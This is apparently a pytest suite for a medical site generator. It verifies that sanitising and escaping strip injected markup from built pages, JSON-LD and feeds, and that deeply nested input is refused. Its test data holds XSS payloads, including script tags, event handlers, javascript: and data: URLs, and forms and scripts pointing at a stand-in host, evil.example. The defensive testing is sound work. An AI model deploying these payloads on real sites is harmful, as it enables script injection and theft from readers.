"""Markup: nothing an editor writes can run in a reader's browser.

Article Markdown may hold raw HTML, but only from an allow-list (scripts, event
handlers, javascript: URLs, frames, styles and plug-ins never reach a page, while
tables, figures, abbr and details survive). Every plain editor string - titles,
summaries, FAQ questions, sources, site.yaml, reviewer files - is escaped for where
it lands: HTML text, attributes, JSON-LD inside <script>, and the XML feeds. The
built pages are parsed with html5lib, as a browser would, and searched for anything
injected.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import html5lib
import pytest
from conftest import SITE_YAML, article
from robust_helpers import build_in_process, write_site

# Plain editor strings: must come out as the same text, escaped (the title limit is 120).
HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)> \" ' &amp; <!-- ]]>"
HOSTILE_TAG = "</script><script>alert(3)</script> \" ' &amp;"  # a tag is at most 60 characters
# Markdown fields (body, FAQ answers): sanitised, so anything executable is removed.
MARKDOWN_ATTACKS = """
<script>alert('body')</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<p onclick="alert('click')">Click me</p>
<img src="https://cdn.example/a.png" onerror="alert('img')" alt="pill">
<svg onload="alert('svg')"><circle r="1"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="card"><button formaction="javascript:alert(1)">Go</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<div style="background: url(javascript:alert('style'))">Styled</div>
"""
# Links and images to such addresses are refused (the page would lose them); the sanitiser drops them as well.
SCHEME_ATTACKS = """
[plain javascript link](javascript:alert('md'))
[upper case](JaVaScRiPt:alert('case'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vbscript](vbscript:msgbox(1))
<a href=" javascript:alert('space')">spaced</a>
<a href="&#106;avascript:alert('entity')">entity</a>
![a chart of results](javascript:alert('image'))
"""
KEPT_MARKUP = """
## Dosage table

| Drug | Half-life |
|---|---|
| Clonazepam | 30-40 h |

<table><caption>Taper steps</caption><thead><tr><th scope="col">Week</th></tr></thead>
<tbody><tr><td colspan="1">1</td></tr></tbody></table>

## Figures

<figure><img src="https://cdn.example/taper.png" alt="Taper chart"><figcaption>A slow taper</figcaption></figure>

<abbr title="Central nervous system">CNS</abbr> depressants.

<details><summary>Show the evidence</summary>Three trials.</details>

## <script>alert('heading')</script> Withdrawal

!!! warning
    Do not stop suddenly.
"""
ART = "content/articles/klonopin-addiction.md"
DANGEROUS_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
                      "button", "textarea", "select", "base", "svg", "math", "style"}
# (action, name, type) of the form controls the built-in header has: a GET search box.
LAYOUT_FORM = {("/search/", None, None), (None, "q", "search"), (None, None, "submit")}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "srcset"}


def q(text: str) -> str:
    """Quote a string for YAML (a JSON string is a valid YAML double-quoted scalar)."""
    return json.dumps(text)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    config = SITE_YAML
    for key in ("title: Test Clinic", "tagline: Care in Lisbon and Leeds",
                "disclaimer: This site does not replace medical advice.", "  name: Test Clinic Ltd",
                "    title: Benzodiazepines", "  title: Need help now?",
                "  text: If you are in danger, call the emergency services.", "  - {name: Test Accreditor}"):
        indent, name = re.match(r"(\s*-?\s*\{?)(\w+):", key).groups()  # type: ignore[union-attr]
        config = config.replace(key, f"{indent}{name}: {q(HOSTILE)}" + ("}" if "{" in key else ""))
    faq = f"\n  - q: {q(HOSTILE)}\n    a: {q('Answer. ' + MARKDOWN_ATTACKS)}"
    sources = f"\n  - {{title: {q(HOSTILE)}, publisher: {q(HOSTILE)}, url: \"https://nida.example/x\", year: 2024}}"
    drug = f"\n  name: {q(HOSTILE)}\n  generic: {q(HOSTILE)}\n  brand_names: [{q(HOSTILE)}]"
    files = {
        "site.yaml": config,
        "content/reviewers/dr-ada.yaml": f"name: {q(HOSTILE)}\ncredentials: {q(HOSTILE)}\nbio: {q(HOSTILE)}\n"
                                         f"role: {q(HOSTILE)}\n",
        ART: article(q(HOSTILE), summary=q(HOSTILE), faq=faq, sources=sources, drug=drug, author=q(HOSTILE),
                     tags=f"[{q(HOSTILE_TAG)}]", body="## Overview\n\nText.\n" + MARKDOWN_ATTACKS + KEPT_MARKUP),
        "content/pages/contact.md": f"---\ntitle: {q(HOSTILE)}\nsummary: {q(HOSTILE)}\n---\n"
                                    f"## Phone\n\n{MARKDOWN_ATTACKS}\n",
    }
    root = write_site(tmp_path_factory.mktemp("markup") / "site", files)
    code, output = build_in_process(root)
    assert code == 0 and "Traceback" not in output, output
    return root / "output"


def parse(path: Path):  # type: ignore[no-untyped-def]
    return html5lib.parse(path.read_bytes(), namespaceHTMLElements=False)


def pages(out: Path) -> list[Path]:
    found = sorted(out.rglob("*.html"))
    assert len(found) >= 10
    return found


def text_of(element) -> str:  # type: ignore[no-untyped-def]
    return "".join(element.itertext())


def test_no_page_carries_anything_executable(site: Path) -> None:
    for page in pages(site):
        rel = page.relative_to(site).as_posix()
        for element in parse(page).iter():
            tag = element.tag if isinstance(element.tag, str) else ""
            if tag == "script" and element.get("src") is None:
                assert element.get("type") == "application/ld+json", rel
                json.loads(element.text or "")
            elif tag == "script":  # the search page's own scripts, served from the site itself
                assert element.get("src").startswith(("/pagefind/", "/assets/js/")) and not element.text, rel
            elif tag in ("form", "input", "button"):  # the header's search box, and only that
                assert (element.get("action"), element.get("name"), element.get("type")) in LAYOUT_FORM, rel
            else:
                assert tag not in DANGEROUS_ELEMENTS, f"<{tag}> on {rel}"
            if tag == "meta" and element.get("http-equiv"):
                assert rel.startswith("old/") or "redirect" in rel, f"meta refresh on {rel}"
            if tag == "link":
                assert element.get("rel") in {"stylesheet", "alternate", "canonical", "icon"}, rel
                assert not (element.get("href") or "").startswith("https://evil"), rel
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), f"{name}= on <{tag}> of {rel}"
                assert name.lower() != "style", f"style= on <{tag}> of {rel}"
                if name.lower() in URL_ATTRIBUTES:
                    scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower().split(":", 1)[0]
                    favicon = tag == "link" and element.get("rel") == "icon"
                    assert scheme not in {"javascript", "vbscript", "data"} or favicon, f"{name}={value} on {rel}"


def test_html_source_never_holds_an_unescaped_payload(site: Path) -> None:
    for page in pages(site):
        html = page.read_text()
        for needle in ("<script>alert", "<SCRIPT SRC", "onerror=alert(2)>", "onerror=\"alert", "onclick=",
                       "onload=", "<iframe", "<object", "<embed", "<base ", "javascript:alert"):
            assert needle not in html, f"{needle} in {page.relative_to(site)}"


def test_markup_medical_articles_need_survives(site: Path) -> None:
    tree = parse(site / "klonopin-addiction/index.html")
    prose = tree.find(".//div[@class='prose']")
    assert [text_of(th) for th in prose.iterfind(".//table//th")] == ["Drug", "Half-life", "Week"]
    assert prose.find(".//table/caption").text == "Taper steps"
    assert prose.find(".//th[@scope='col']") is not None
    figure = prose.find(".//figure")
    assert figure.find("img").get("alt") == "Taper chart"
    assert figure.find("figcaption").text == "A slow taper"
    assert prose.find(".//abbr").get("title") == "Central nervous system"
    assert prose.find(".//details/summary").text == "Show the evidence"
    assert "Do not stop suddenly." in text_of(prose.find(".//aside[@role='note']"))
    assert prose.find(".//img[@alt='pill']").get("src") == "https://cdn.example/a.png"  # the image stays...
    assert prose.find(".//img[@alt='pill']").get("onerror") is None  # ...without its handler


def test_a_link_or_image_to_a_script_or_data_address_is_refused_and_sanitised_away(tmp_path: Path) -> None:
    from medpress.markdown import MarkdownRenderer

    root = write_site(tmp_path / "site", {ART: article("Klonopin", body="## Overview\n" + SCHEME_ATTACKS)})
    code, output = build_in_process(root)
    assert code == 1 and not (root / "output").exists()
    written = (root / ART).read_text().split("\n")
    for address in ("javascript:alert('md')", "JaVaScRiPt:alert('case')", "vbscript:msgbox(1)",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", " javascript:alert('space')",
                    "javascript:alert('image')", "javascript:alert('entity')"):
        line = next(number for number, text in enumerate(written, 1) if address.strip()[1:] in text)  # &#106; is a j
        assert f"{ART}:{line}: body: '{address}' is an address medpress does not publish" in output
    html = str(MarkdownRenderer().render(SCHEME_ATTACKS).html).lower()
    assert "script:" not in html and "data:" not in html and html.count("<a>") == 6


def test_a_tab_hidden_in_a_scheme_is_a_broken_link_not_a_script(tmp_path: Path) -> None:
    # The entity decodes to a tab, which is percent-encoded: a relative URL, never a javascript: one.
    root = write_site(tmp_path / "site", {ART: article("Klonopin", body="[tab](java&#x09;script:alert('tab'))\n")})
    code, output = build_in_process(root)
    assert code == 1
    assert f"{ART}:" in output and "links to 'java%09script:alert('tab')'" in output
    assert not (root / "output").exists()


def test_editor_strings_are_text_not_markup(site: Path) -> None:
    tree = parse(site / "klonopin-addiction/index.html")
    expect = {
        ".//h1": HOSTILE,
        ".//p[@class='summary']": HOSTILE,
        ".//p[@class='tagline']": HOSTILE,
        ".//details[@class='faq-item']/summary": HOSTILE,
        ".//section[@class='sources']//li/a": HOSTILE,
        ".//p[@class='footer-org']": HOSTILE,
        ".//div[@class='disclaimer']/p": HOSTILE,
        ".//aside[@class='urgent-help']/h2": HOSTILE,
    }
    for path, value in expect.items():
        found = tree.find(path)
        assert found is not None, path
        assert text_of(found).strip() == value.strip(), path
    assert HOSTILE in text_of(tree.find(".//li[@class='reviewed-by']"))
    assert tree.find(".//title").text.startswith(HOSTILE)
    assert tree.find(".//meta[@name='description']").get("content") == HOSTILE
    assert tree.find(".//meta[@property='og:site_name']").get("content") == HOSTILE
    reviewer = parse(site / "reviewers/dr-ada/index.html")
    assert text_of(reviewer.find(".//h1")) == HOSTILE
    drugs = parse(site / "drugs/index.html")
    assert HOSTILE in text_of(drugs.find(".//main"))


def test_json_ld_cannot_be_closed_and_still_parses(site: Path) -> None:
    for page in pages(site):
        html = page.read_text()
        blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
        assert len(blocks) == html.count('<script type="application/ld+json">'), page
        for block in blocks:
            assert "</" not in block and "<!--" not in block, page
            json.loads(block)
    data = [json.loads(b) for b in re.findall(r'<script type="application/ld\+json">(.*?)</script>',
                                              (site / "klonopin-addiction/index.html").read_text(), re.S)]
    page_block = next(b for b in data if b["@type"] == "MedicalWebPage")
    assert page_block["name"] == HOSTILE
    assert page_block["description"] == HOSTILE
    assert page_block["reviewedBy"]["name"] == HOSTILE
    assert page_block["publisher"]["name"] == HOSTILE
    assert page_block["about"]["name"] == HOSTILE
    assert page_block["citation"][0]["name"] == HOSTILE
    faq = next(b for b in data if b["@type"] == "FAQPage")
    assert faq["mainEntity"][0]["name"] == HOSTILE
    assert "<script" not in faq["mainEntity"][0]["acceptedAnswer"]["text"]  # the answer is sanitised HTML


def test_feeds_are_well_formed_xml_with_the_strings_as_text(site: Path) -> None:
    feed = ET.parse(site / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    assert feed.findtext(f"{atom}title") == HOSTILE
    assert HOSTILE in [entry.findtext(f"{atom}title") for entry in feed.iter(f"{atom}entry")]
    ET.parse(site / "sitemap.xml")


# Deep enough that the old build spent seconds in the sanitiser and published them without a word; ten times
# deeper took minutes (the time grows with the square of the depth), a whole 2 MB file hours.
DEEP = 20_000
TOO_DEEP = "a quote, list or HTML element nested {} levels deep: at most 100"
PAGE = "content/pages/contact.md"


def line_holding(root: Path, rel: str, text: str) -> int:
    return next(number for number, line in enumerate((root / rel).read_text().split("\n"), 1) if text in line)


def test_quotes_and_html_nested_too_deep_are_refused_at_their_line(tmp_path: Path) -> None:
    other = "content/articles/what-are-benzodiazepines.md"
    at_limit = "## Kept\n\n" + ">" * 100 + " a quote 100 levels deep is kept\n"
    root = write_site(tmp_path / "site", {
        ART: article("Klonopin", body="## Overview\n\nText.\n\n" + ">" * DEEP + " deepest\n"),
        other: article("What are benzodiazepines", body=at_limit, faq="\n  - q: Why?\n    a: " + "<div>" * DEEP),
        PAGE: "---\ntitle: Contact us\nsummary: How to reach the clinic.\n---\n## Phone\n\n" + "<div>\n" * 150,
    })
    code, output = build_in_process(root)
    assert code == 1 and not (root / "output").exists()
    assert f"{ART}:{line_holding(root, ART, 'deepest')}: body: {TOO_DEEP.format(DEEP)}" in output
    assert f"{other}:{line_holding(root, other, '<div>')}: faq[0].a: {TOO_DEEP.format(DEEP)}" in output
    assert f"{PAGE}:{line_holding(root, PAGE, 'Phone') + 102}: body: {TOO_DEEP.format(150)}" in output
    assert output.count("levels deep") == 3  # the body nested 100 levels deep is kept


def test_python_markdown_lists_nested_too_deep_are_refused(tmp_path: Path) -> None:
    # Python-Markdown nests a list in a list for each marker on a line, and recursed out of the stack for these.
    indented = "\n".join("    " * level + "- item" for level in range(150))
    root = write_site(tmp_path / "site", {
        "site.yaml": SITE_YAML + "markdown:\n  engine: python-markdown\n",
        ART: article("Klonopin", body="## Overview\n\n" + "- " * 1000 + "deepest\n"),
        PAGE: "---\ntitle: Contact us\nsummary: How to reach the clinic.\n---\n## Phone\n\n" + indented + "\n",
    })
    code, output = build_in_process(root)
    assert code == 1 and not (root / "output").exists()
    assert f"{ART}:{line_holding(root, ART, 'deepest')}: body: {TOO_DEEP.format(1000)}" in output
    assert f"{PAGE}:{line_holding(root, PAGE, 'Phone') + 102}: body: {TOO_DEEP.format(150)}" in output
